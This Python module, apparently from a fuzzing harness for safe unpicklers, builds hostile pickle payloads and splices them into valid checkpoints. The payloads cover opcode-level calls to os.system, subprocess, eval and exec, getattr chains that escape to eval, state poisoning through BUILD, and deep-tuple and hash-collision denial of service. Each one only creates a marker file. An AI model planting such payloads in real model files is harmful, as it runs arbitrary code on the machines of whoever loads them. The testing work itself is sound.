"""Hostile pickle payloads, spliced into valid pickles: what an attacker puts in a checkpoint.

A payload is opcodes that push one object, so it can take the place of any opcode that pushes one
(a string, a number, None, a memo GET) or go first with a POP after it, and the rest of the pickle
stays well formed. Three kinds:

- code: every way a pickle can call something, each aimed at something that runs code and would
  create MARKER in the folder the reader runs in: REDUCE, INST, OBJ, NEWOBJ, NEWOBJ_EX, STACK_GLOBAL,
  the EXT opcodes (codes the harness registers for os.system & co., as a hostile environment might),
  copyreg's _reconstructor and __newobj__, getattr chains that climb from an allowed global to
  `eval` through `__globals__`, functools.partial, a nested pickle.loads, numpy's and timeit's
  string runners. Through the old, unrestricted unpickler each of them runs.
- state: BUILD giving an allowed global (torch.Size, builtins.object, a dtype, the tensor
  rebuilder...) a __dict__ or slot state (their __defaults__), which a later load would see.
- hash: what the C unpickler hashes before any check could look: a tuple 150,000 deep as a dict key
  (it overflowed the C stack), 60 levels of tuples sharing their items (2**60 to hash), 60,000 int
  keys that share one hash; and memo indices past anything written.
"""
from __future__ import annotations

import pickle
import struct

from .readers import MARKER

COMMAND = f"touch {MARKER}"
PYTHON = f"open({MARKER!r}, 'w').close()"

# EXT opcode codes the fuzz worker registers (harness._register_extensions): code -> global
EXTENSIONS = {0xF1: ("os", "system"), 0xF2: ("builtins", "eval"), 0x1F3F: ("subprocess", "getoutput"),
              0x7FFFFFF0: ("builtins", "exec")}


def text(value: str) -> bytes:
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def glob(name: str) -> bytes:
    module, _, attribute = name.rpartition(".")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def call(function: bytes, *args: bytes) -> bytes:
    return function + b"(" + b"".join(args) + b"tR"


def getattr_(owner: bytes, name: str) -> bytes:
    return call(glob("builtins.getattr"), owner, text(name))


# (name of a global that runs code, its arguments) for the direct calls
TARGETS = (("os.system", (text(COMMAND),)), ("posix.system", (text(COMMAND),)),
           ("subprocess.check_call", (b"]" + b"(" + text("touch") + text(MARKER) + b"e",)),
           ("subprocess.getoutput", (text(COMMAND),)), ("subprocess.Popen", (b"](" + text("touch") + text(MARKER) + b"e",)),
           ("builtins.eval", (text(PYTHON),)), ("builtins.exec", (text(PYTHON),)),
           ("__builtin__.eval", (text(PYTHON),)), ("builtins.open", (text(MARKER), text("w"))),
           ("io.open", (text(MARKER), text("w"))), ("codecs.open", (text(MARKER), text("w"))),
           ("os.popen", (text(COMMAND),)), ("pty.spawn", (b"(" + text("touch") + text(MARKER) + b"l",)),
           ("timeit.timeit", (text(PYTHON),)),
           ("numpy.testing._private.utils.runstring", (text(PYTHON), b"}")),
           ("cProfile.run", (text(PYTHON),)), ("runpy.run_path", (text(MARKER),)),
           ("webbrowser.open", (text("file:///" + MARKER),)),
           ("torch.serialization.load", (text(MARKER),)), ("ultralytics.nn.tasks.torch_safe_load", (text(MARKER),)))


def code_payloads() -> list[tuple[str, bytes]]:
    out = []
    for name, args in TARGETS:
        module, _, attribute = name.rpartition(".")
        out.append((f"reduce:{name}", call(glob(name), *args)))
        out.append((f"inst:{name}", b"(" + b"".join(args) + b"i" + module.encode() + b"\n" + attribute.encode() + b"\n"))
        out.append((f"obj:{name}", b"(" + glob(name) + b"".join(args) + b"o"))
        out.append((f"newobj:{name}", glob(name) + b"(" + b"".join(args) + b"t\x81"))
        out.append((f"newobj_ex:{name}", glob(name) + b"(" + b"".join(args) + b"t}\x92"))
        out.append((f"stack_global:{name}", call(text(module) + text(attribute) + b"\x93", *args)))
    for code, (module, name) in EXTENSIONS.items():
        opcode = b"\x82" + bytes([code]) if code < 0x100 else b"\x83" + struct.pack("<H", code) if code < 0x10000 \
            else b"\x84" + struct.pack("<i", code)
        argument = text(COMMAND) if name in ("system", "getoutput") else text(PYTHON)
        out.append((f"ext:{module}.{name}", call(opcode, argument)))
    popen = glob("subprocess.Popen")
    out.append(("copyreg._reconstructor", call(glob("copyreg._reconstructor"), popen, popen,
                                               b"](" + text("touch") + text(MARKER) + b"e")))
    out.append(("copy_reg._reconstructor", call(glob("copy_reg._reconstructor"), popen, popen,
                                                b"](" + text("touch") + text(MARKER) + b"e")))
    out.append(("copyreg.__newobj__", call(glob("copyreg.__newobj__"), glob("os.system"), text(COMMAND))))
    # getattr chains: allowed global -> __globals__ -> .get("__builtins__") -> ["eval"] -> eval(PYTHON)
    for start in ("torch._utils._rebuild_tensor_v2", "torch.Size", "builtins.getattr", "collections.OrderedDict",
                  "copyreg._reconstructor", "builtins.object"):
        scope = getattr_(glob(start), "__globals__")
        builtins_ = call(getattr_(scope, "get"), text("__builtins__"))
        evaluate = call(getattr_(builtins_, "get"), text("eval"))
        out.append((f"getattr-chain:{start}", call(evaluate, text(PYTHON))))
        subclasses = call(getattr_(getattr_(getattr_(glob(start), "__class__"), "__base__"), "__subclasses__"))
        out.append((f"getattr-subclasses:{start}", subclasses))
    out.append(("getattr:__import__", call(getattr_(call(glob("builtins.__import__"), text("os")), "system"),
                                           text(COMMAND))))
    out.append(("functools.partial", call(call(glob("functools.partial"), glob("os.system"), text(COMMAND)))))
    nested = pickle.dumps(_System(), protocol=2)
    out.append(("pickle.loads", call(glob("pickle.loads"), b"C" + bytes([len(nested)]) + nested
                                     if len(nested) < 256 else b"B" + struct.pack("<I", len(nested)) + nested)))
    out.append(("importlib.import_module", call(getattr_(call(glob("importlib.import_module"), text("os")), "system"),
                                                text(COMMAND))))
    return out


class _System:
    """Pickles as os.system(COMMAND): the inner pickle of the pickle.loads payload."""

    def __reduce__(self):
        import os
        return os.system, (COMMAND,)


def state_payloads() -> list[tuple[str, bytes]]:
    """BUILD on an allowed global, then POP: these push nothing (they go first, after PROTO)."""
    slots = b"N}" + text("__defaults__") + b"K\x07\x85\x85s\x86"
    attributes = b"}" + text("marker") + text("set") + b"s"
    out = []
    for name in ("torch.Size", "torch.device", "builtins.object", "torch.float16", "torch.FloatStorage",
                 "torch._utils._rebuild_tensor_v2", "torch._utils._rebuild_parameter", "builtins.getattr",
                 "copyreg._reconstructor", "collections.OrderedDict", "builtins.set"):
        out.append((f"build-slots:{name}", glob(name) + slots + b"b0"))
        out.append((f"build-dict:{name}", glob(name) + attributes + b"b0"))
    return out


def hash_payloads() -> list[tuple[str, bytes]]:
    collide = (1 << 61) - 1
    shared = b")r\x00\x00\x00\x000" + b"j\x00\x00\x00\x00j\x00\x00\x00\x00\x86r\x00\x00\x00\x000" * 60 + \
        b"j\x00\x00\x00\x00"
    ints = b"".join(pickle.dumps(k * collide, protocol=2)[2:-1] + b"N" for k in range(1, 60_000))
    return [("deep-tuple-key", b"}" + b")" + b"\x85" * 150_000 + b"Ns"),
            ("deep-tuple-member", b"(" + b")" + b"\x85" * 150_000 + b"\x91"),
            ("deep-tuple-in-set-call", call(glob("builtins.set"), b"](" + b")" + b"\x85" * 150_000 + b"e")),
            ("shared-tuple-key", b"}" + shared + b"Ns"),
            ("shared-tuple-ordereddict", call(glob("collections.OrderedDict"), b"](" + shared + b"N\x86e")),
            ("colliding-int-keys", b"}(" + ints + b"u"),
            ("memo-get-2**31", b"j\xff\xff\xff\x7f"), ("memo-put-2**32", b")r\xff\xff\xff\xff"),
            ("memo-get-unwritten", b"h\xfe")]


PAYLOADS = {"code": code_payloads(), "state": state_payloads(), "hash": hash_payloads()}
# opcodes that push one object and take none: a payload can stand in their place
_PUSHERS = {"BINUNICODE", "SHORT_BINUNICODE", "BINUNICODE8", "UNICODE", "STRING", "BINSTRING", "SHORT_BINSTRING",
            "BININT", "BININT1", "BININT2", "LONG1", "NONE", "NEWTRUE", "NEWFALSE", "BINFLOAT", "EMPTY_TUPLE",
            "EMPTY_LIST", "EMPTY_DICT", "BINGET", "LONG_BINGET", "GLOBAL"}


def pickle_payload(rng, data: bytes, ctx) -> bytes:
    """A payload in place of a value the pickle pushes, or first of all (then popped)."""
    from .containers import _pickle_ops, int_field
    ops = _pickle_ops(data)
    if not ops:
        return int_field(rng, data, ctx)
    kind = rng.choice(("code", "code", "code", "state", "hash"))
    name, payload = rng.choice(PAYLOADS[kind])
    ctx.note(f"pickle:payload-{name}")
    pushers = [o for o in ops if o[0].name in _PUSHERS]
    if kind == "state" or not pushers or rng.random() < 0.3:
        first = next((o for o in ops if o[0].name != "PROTO"), ops[0])      # right after PROTO
        suffix = b"" if kind == "state" else b"0"
        return data[:first[2]] + payload + suffix + data[first[2]:]
    _, _, start, end = rng.choice(pushers)
    return data[:start] + payload + data[end:]


PAYLOAD = ((pickle_payload, 8),)
